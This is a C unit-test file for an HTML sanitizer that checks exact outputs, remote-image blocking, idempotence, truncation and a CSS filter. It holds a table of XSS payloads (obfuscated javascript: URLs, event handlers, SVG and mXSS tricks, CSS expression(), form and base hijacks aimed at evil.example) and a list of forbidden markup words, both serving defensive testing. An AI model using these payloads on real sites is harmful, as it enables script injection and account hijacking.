/* Unit tests of html_sanitize: a table of inputs and exact outputs, a table
 * of attacks (script, event handlers, javascript: and data: URLs, SVG,
 * CSS with url() and expression(), meta refresh, forms, base, frames...)
 * whose output must contain none of the dangerous words, idempotence (the
 * output sanitized again is unchanged), truncation, and the CSS filter. */
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "http/html_sanitize.h"
#include "test.h"

static int fake_cid(void *ctx, const char *cid, size_t len, struct buf *out)
{
	(void)ctx;
	if (len == 9 && memcmp(cid, "logo@x.de", 9) == 0)
		return buf_puts(out, "data:image/png;base64,iVBORw0KGgo=");
	if (len == 6 && memcmp(cid, "svg@x1", 6) == 0)
		return buf_puts(out, "data:image/svg+xml;base64,PHN2Zz4=");
	return -1;
}

static char *sanitize(const char *in, bool remote, struct html_sanitize_stats *st)
{
	struct html_sanitize_opts o = {.allow_remote_images = remote, .cid_resolve = fake_cid};
	struct buf out;
	buf_init(&out, 1 << 20);
	size_t n = strlen(in);
	char *copy = malloc(n ? n : 1); /* exact size: ASan sees over-reads */
	memcpy(copy, in, n);
	int r = html_sanitize(copy, n, &o, &out, st);
	free(copy);
	CHECK_INT(r, 0);
	return buf_steal(&out, NULL);
}

struct exact {
	const char *in, *want;
};

static const struct exact exacts[] = {
    {"hello", "hello"},
    {"a < b & c > d", "a &lt; b &amp; c &gt; d"},
    {"<p>Hi <b>there</b></p>", "<p>Hi <b>there</b></p>"},
    {"<P CLASS=x ID=y>Hi", "<p>Hi</p>"},
    {"<div><p>unclosed", "<div><p>unclosed</p></div>"},
    {"</p>stray</div>", "stray"},
    {"<b><i>x</b>y</i>", "<b><i>x</i></b>y"},
    {"&amp;&lt;&gt;&quot;&#39;&apos;", "&amp;&lt;&gt;&quot;&#39;&#39;"},
    {"&copy; &eacute;&nbsp;&#233;&#xE9;&#XE9", "\xc2\xa9 \xc3\xa9\xc2\xa0\xc3\xa9\xc3\xa9\xc3\xa9"},
    {"&copy &amp &unknown; &", "\xc2\xa9 &amp; &amp;unknown; &amp;"},
    {"&#0;&#xD800;&#x110000;&#1;", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"},
    {"<a href=\"https://example.org/?a=1&amp;b=2\">x</a>",
     "<a href=\"https://example.org/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>"},
    {"<a href='mailto:a@b.c' target=_self rel=opener>m</a>",
     "<a href=\"mailto:a@b.c\" target=\"_blank\" rel=\"noopener noreferrer\">m</a>"},
    {"<a href=\"/relative\">r</a>", "<a>r</a>"},
    {"<a href=\"#top\">t</a>", "<a>t</a>"},
    {"<img src=\"cid:logo@x.de\" alt=\"Logo\">",
     "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"Logo\">"},
    {"<img src=\"cid:logo%40x.de\">", "<img src=\"data:image/png;base64,iVBORw0KGgo=\">"},
    {"<img src=\"cid:svg@x1\" alt=s>", "s"},
    {"<img src=\"cid:nope\" alt=\"gone\">", "gone"},
    {"<img src=\"https://tracker.example/p.gif\" alt=\"\" width=1 height=1>", ""},
    {"<img src=\"data:image/gif;base64,R0lGODlh\">", "<img src=\"data:image/gif;base64,R0lGODlh\">"},
    {"<img src=\"data:image/gif;base64,R0l\"GOD\">", "<img src=\"data:image/gif;base64,R0l\">"},
    {"x<br/>y<hr>z<wbr>", "x<br>y<hr>z<wbr>"},
    {"<br></br>", "<br>"},
    {"<table border=0 cellpadding=\"4\" width=\"100%\"><tr><td colspan=2 "
     "bgcolor=\"#ffcc00\">c</td></tr></table>",
     "<table border=\"0\" cellpadding=\"4\" width=\"100%\"><tr><td colspan=\"2\" "
     "bgcolor=\"#ffcc00\">c</td></tr>"
     "</table>"},
    {"<font face=\"Arial, sans-serif\" color=red size=3>f</font>",
     "<font face=\"Arial, sans-serif\" color=\"red\" size=\"3\">f</font>"},
    {"<p style=\"color: #333; FONT-SIZE:14px;position:fixed\">s</p>",
     "<p style=\"color: #333; font-size: 14px; \">s</p>"},
    {"<p style=\"font-family: 'Helvetica Neue', Arial\">s</p>",
     "<p style=\"font-family: &#39;Helvetica Neue&#39;, Arial; \">s</p>"},
    {"<span style=\"background-color: rgb(1, 2, 3) !important\">x</span>",
     "<span style=\"background-color: rgb(1, 2, 3) !important; \">x</span>"},
    {"<html><head><title>T</title><style>p{}</style></head><body><p>b</p></body></html>", "<p>b</p>"},
    {"<custom-el x=1>text</custom-el>", "text"},
    {"<!-- c --><!doctype html><?xml x?>t", "t"},
    {"<!--> a <!---> b <!-- x --!> c", " a  b  c"},
    {"<!-- never ends", ""},
    {"1 < 2 <3 </ 4> <>", "1 &lt; 2 &lt;3  &lt;&gt;"},
    {"</>x", "x"},
    {"<p title=\"a&quot;b\" lang=en dir=rtl>q</p>", "<p title=\"a&quot;b\" lang=\"en\" dir=\"rtl\">q</p>"},
    {"<p title='x' title='y'>d</p>", "<p title=\"x\">d</p>"},
    {"<p\ntitle\n=\n\"nl\">n</p>", "<p title=\"nl\">n</p>"},
    {"<p title=\"unterminated>x", ""},
    {"<pre>  keep\n  spaces</pre>", "<pre>  keep\n  spaces</pre>"},
    {"<details open><summary>S</summary>D</details>", "<details open><summary>S</summary>D</details>"},
    {"<ol start=3 type=a reversed><li value=5>x</ol>",
     "<ol start=\"3\" type=\"a\" reversed><li value=\"5\">x</li></ol>"},
    {"caf\xc3\xa9 \xff bad", "caf\xc3\xa9 \xef\xbf\xbd bad"},
};

TEST(exact_outputs)
{
	for (size_t i = 0; i < sizeof(exacts) / sizeof(exacts[0]); i++) {
		test_current = exacts[i].in;
		char *got = sanitize(exacts[i].in, false, NULL);
		CHECK_STR(got, exacts[i].want);
		free(got);
	}
	/* Embedded NUL: length given explicitly. */
	struct buf out;
	buf_init(&out, 100);
	CHECK_INT(html_sanitize("a\0b", 3, NULL, &out, NULL), 0);
	CHECK_STR(buf_cstr(&out), "ab");
	buf_free(&out);
}

TEST(remote_images)
{
	struct html_sanitize_stats st;
	const char *in = "<img src=\"https://img.example/a.png\" alt=a><img src=' http://x.example/b.gif '>";
	char *got = sanitize(in, false, &st);
	CHECK_STR(got, "a");
	CHECK_INT(st.remote_blocked, 2);
	free(got);
	got = sanitize(in, true, &st);
	CHECK_STR(got,
		  "<img src=\"https://img.example/a.png\" alt=\"a\"><img src=\"http://x.example/b.gif\">");
	CHECK_INT(st.remote_blocked, 0);
	free(got);
	got = sanitize("<img src=\"cid:logo@x.de\">", false, &st);
	CHECK_INT(st.cid_images, 1);
	free(got);
}

/* Every attack: the output must contain none of these (case-insensitive). */
static const char *const forbidden[] = {
    "<script",	  "javascript", "vbscript",  "onerror", "onload",     "onclick",     "onmouse",
    "onfocus",	  "<svg",	"<math",     "<iframe", "<frame",     "<object",     "<embed",
    "<form",	  "<input",	"<button",   "<meta",	"<base",      "<link",	     "<style",
    "expression", "url(",	"data:text", "srcdoc",	"formaction", "<template",   "<noscript",
    "@import",	  "http-equiv", "<textarea", "<select", "<video",     "<audio",	     "xlink",
    "behavior",	  "binding",	"<title",    "<xmp",	"<plaintext", "background=", "srcset",
    "<applet",	  "<image",	"<isindex",  "<portal",
};

static const char *const attacks[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>document.write('</scr'+'ipt>')</script>alert(2)",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://x.example/a.png\" onerror=\"alert(1)\" onload=alert(2)>",
    "<body onload=alert(1)>",
    "<div onclick=\"alert(1)\" onmouseover='alert(2)'>x</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" java\tscript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"background-image: url('https://tracker.example/x.png')\">x</p>",
    "<p style=\"width: expression(alert(1))\">x</p>",
    "<p style=\"color: red; width: ex/**/pression(alert(1))\">x</p>",
    "<p style=\"behavior: url(x.htc); -moz-binding: url(x.xml#y)\">x</p>",
    "<p style=\"color:\\75 rl(x)\">x</p>",
    "<p style=\"background-color: red; background: url&#40;x.png&#41;\">x</p>",
    "<div style=\"font-family: 'x';}</style><script>alert(1)</script>\">x</div>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(x)}</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<form action=\"https://evil.example/\"><input name=p type=password><button "
    "formaction=x>go</button></form>",
    "<base href=\"https://evil.example/\"><a href=\"x\">x</a>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"x.swf\"><param name=a value=b><embed src=x.swf></object>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<table background=\"https://evil.example/bg.png\"><tr><td background=x>t</td></tr></table>",
    "<img srcset=\"https://evil.example/a.png 1x\" src=\"cid:nope\">",
    "<video poster=https://evil.example/p.png><source src=x></video>",
    "<audio src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\" style=\"x:expression(1)\">ok</a>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<p title=\"&lt;script&gt;alert(1)&lt;/script&gt;\">x</p>",
    "<div/onmouseover='alert(1)'>x</div>",
    "<div =\"onclick=alert(1)\">x</div>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<select><option><script>alert(1)</script></option></select>",
    "<isindex action=javascript:alert(1) type=image>",
    "<image src=x onerror=alert(1)>",
    "<portal src=https://evil.example/></portal>",
    "<applet code=x></applet>",
    "<a href=\"https://x.example/\" xlink:href=\"javascript:alert(1)\">x</a>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<img src=\"https://tracker.example/p.gif\">",
    "<p style=\"color: red\" style=\"background: url(x)\">x</p>",
    "<p style='font-family: \"a;b:url(x)\"'>x</p>",
};

static bool contains_ci(const char *hay, const char *needle)
{
	size_t n = strlen(needle);
	for (const char *p = hay; *p; p++)
		if (strncasecmp(p, needle, n) == 0)
			return true;
	return false;
}

TEST(attacks)
{
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		test_current = attacks[i];
		char *got = sanitize(attacks[i], false, NULL);
		for (size_t k = 0; k < sizeof(forbidden) / sizeof(forbidden[0]); k++) {
			if (contains_ci(got, forbidden[k])) {
				printf("FAIL %s: output contains %s: %s\n", attacks[i], forbidden[k], got);
				test_failures++;
			}
			test_checks++;
		}
		/* No outside request: an http(s) URL only as a link target. */
		for (const char *p = got; (p = strstr(p, "src=\"")) != NULL; p++)
			CHECK(strncmp(p + 5, "data:image/", 11) == 0);
		free(got);
	}
}

TEST(attack_text_survives)
{
	/* The words stay readable as text, only markup goes. */
	char *got =
	    sanitize("<p>Use <code>&lt;script&gt;</code> tags</p><script>x</script>after", false, NULL);
	CHECK_STR(got, "<p>Use <code>&lt;script&gt;</code> tags</p>after");
	free(got);
	got = sanitize("<svg><text>hidden</text></svg>shown<svg/>too", false, NULL);
	CHECK_STR(got, "showntoo");
	free(got);
	got = sanitize("<svg><svg></svg>still hidden</svg>visible", false, NULL);
	CHECK_STR(got, "visible");
	free(got);
}

TEST(idempotent)
{
	for (size_t i = 0; i < sizeof(exacts) / sizeof(exacts[0]) + sizeof(attacks) / sizeof(attacks[0]);
	     i++) {
		const char *in = i < sizeof(exacts) / sizeof(exacts[0])
				     ? exacts[i].in
				     : attacks[i - sizeof(exacts) / sizeof(exacts[0])];
		test_current = in;
		char *once = sanitize(in, true, NULL);
		char *twice = sanitize(once, true, NULL);
		CHECK_STR(twice, once);
		free(once);
		free(twice);
	}
}

TEST(depth_and_truncation)
{
	/* 1000 nested divs: at most HTML_SANITIZE_MAX_DEPTH are kept, all closed. */
	struct buf in;
	buf_init(&in, 1 << 20);
	for (int i = 0; i < 1000; i++)
		buf_puts(&in, "<div>");
	buf_puts(&in, "deep");
	char *got = sanitize(buf_cstr(&in), false, NULL);
	size_t opens = 0, closes = 0;
	for (const char *p = got; (p = strstr(p, "<div>")) != NULL; p++)
		opens++;
	for (const char *p = got; (p = strstr(p, "</div>")) != NULL; p++)
		closes++;
	CHECK_INT(opens, HTML_SANITIZE_MAX_DEPTH);
	CHECK_INT(closes, HTML_SANITIZE_MAX_DEPTH);
	CHECK(strstr(got, "deep") != NULL);
	free(got);
	buf_free(&in);

	/* A small output buffer: -1, but what is there is closed and whole. */
	const char *doc =
	    "<div><p>some text here that is long <b>bold <i>italic text that goes on</i></b></p></div>";
	for (size_t max = 0; max < strlen(doc) + 10; max++) {
		struct buf out;
		buf_init(&out, max);
		int r = html_sanitize(doc, strlen(doc), NULL, &out, NULL);
		const char *s = buf_cstr(&out);
		CHECK(out.len <= max);
		if (r == 0)
			CHECK_STR(s, doc);
		/* Balanced: as many "<x" opens as "</x" closes, and no half tag. */
		int lt = 0, gt = 0, open = 0, close = 0;
		for (const char *p = s; *p; p++) {
			lt += *p == '<';
			gt += *p == '>';
			if (*p == '<' && p[1] == '/')
				close++;
			else if (*p == '<')
				open++;
		}
		CHECK_INT(lt, gt);
		CHECK_INT(open, close);
		buf_free(&out);
	}
}

TEST(style_filter)
{
	struct {
		const char *in, *want;
	} cases[] = {
	    {"color: red", "color: red; "},
	    {"color:red;;margin:0 auto", "color: red; margin: 0 auto; "},
	    {"font: 12px/1.5 Arial, sans-serif", "font: 12px/1.5 Arial, sans-serif; "},
	    {"width: calc(100% - 10px)", "width: calc(100% - 10px); "},
	    {"COLOR: Blue", "color: Blue; "},
	    {"position: absolute; top: 0", ""},
	    {"color: red; background: url(x)", "color: red; "},
	    {"color: red /* c */", ""},
	    {"color: re\\64", ""},
	    {"width: expression(1)", ""},
	    {"width: EXPRESSION(1)", ""},
	    {"color: var(--x)", ""},
	    {"content: 'x'", ""},
	    {"font-family: \"Comic Sans\"", "font-family: \"Comic Sans\"; "},
	    {"font-family: \"a;b\"", ""},
	    {"color", ""},
	    {": red", ""},
	    {"colour: red", ""},
	    {"display: none", "display: none; "},
	    {"border: 1px solid rgba(0,0,0,.5)", "border: 1px solid rgba(0,0,0,.5); "},
	    {"background-color: image-set(x 1x)", ""},
	    {"margin: 0 !important", "margin: 0 !important; "},
	    {"color: red}body{color:blue", ""},
	    {"color: <b>", ""},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		test_current = cases[i].in;
		struct buf out;
		buf_init(&out, 4096);
		CHECK_INT(html_sanitize_style(cases[i].in, strlen(cases[i].in), &out), 0);
		CHECK_STR(buf_cstr(&out), cases[i].want);
		buf_free(&out);
	}
}

TEST(escape)
{
	struct buf out;
	buf_init(&out, 100);
	CHECK_INT(html_escape("<a href=\"x\">'&'</a>", 20, &out), 0);
	CHECK_STR(buf_cstr(&out), "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;");
	buf_free(&out);
}

int main(void)
{
	RUN(exact_outputs);
	RUN(remote_images);
	RUN(attacks);
	RUN(attack_text_survives);
	RUN(idempotent);
	RUN(depth_and_truncation);
	RUN(style_filter);
	RUN(escape);
	return test_done();
}
